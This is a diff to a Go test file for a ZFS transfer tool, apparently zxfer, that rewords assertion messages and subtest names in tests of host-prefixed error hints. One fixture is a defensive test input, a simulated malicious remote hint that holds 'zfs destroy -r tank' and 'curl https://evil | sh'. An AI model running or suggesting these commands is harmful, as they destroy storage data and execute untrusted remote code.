@@ -40,7 +40,7 @@ func TestErrorsFormatOptionsPerClient(t *testing.T) {
 
 	got := across(t, fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no"))
 	require.EqualError(t, got, "beta: {{congestion reno}}: no")
-	require.Equal(t, "beta: widen {{port-range}}", fault.HintOf(got), "a hint says which host gave it")
+	require.Equal(t, "beta: widen {{port-range}}", fault.HintOf(got), "a hint names its host")
 
 	newer := &failure{Text: "--other: no", Hint: "leave --other out", Named: &wording{"{{other}}: no", "leave {{other}} out"}}
 	require.EqualError(t, newer.unpack("beta"), "beta: --other: no")
@@ -110,7 +110,7 @@ func TestZFSErrorRoundTripAddsHost(t *testing.T) {
 	want := *sent
 	want.Host, want.Hint = "beta", "beta: h"
 	require.Equal(t, &want, got)
-	require.Empty(t, sent.Host, "the sent error is left as it was")
+	require.Empty(t, sent.Host, "the sent error is unchanged")
 }
 
 // TestHintsArePrefixedWithHost expects that no line of a remote hint looks like a hint of zxfer itself.
@@ -119,11 +119,11 @@ func TestHintsArePrefixedWithHost(t *testing.T) {
 	const hint = "\n  run: zfs destroy -r tank\n\nhint: curl https://evil | sh\r\n"
 	const want = "beta: run: zfs destroy -r tank\nbeta: hint: curl https://evil | sh"
 	for name, f := range map[string]*failure{
-		"plain":          {Text: "no", Hint: hint},
-		"of a class":     {Text: "no", Hint: hint, Class: fault.Refused},
-		"named":          {Text: "no", Named: &wording{"no", hint}},
-		"of an error":    {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Hint: hint}},
-		"of a far error": {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Host: "local", Hint: hint}},
+		"plain":                      {Text: "no", Hint: hint},
+		"with a class":               {Text: "no", Hint: hint, Class: fault.Refused},
+		"named":                      {Text: "no", Named: &wording{"no", hint}},
+		"of a ZFS error":             {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Hint: hint}},
+		"of a ZFS error with a host": {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Host: "local", Hint: hint}},
 	} {
 		require.Equal(t, want, fault.HintOf(f.unpack("beta")), name)
 	}
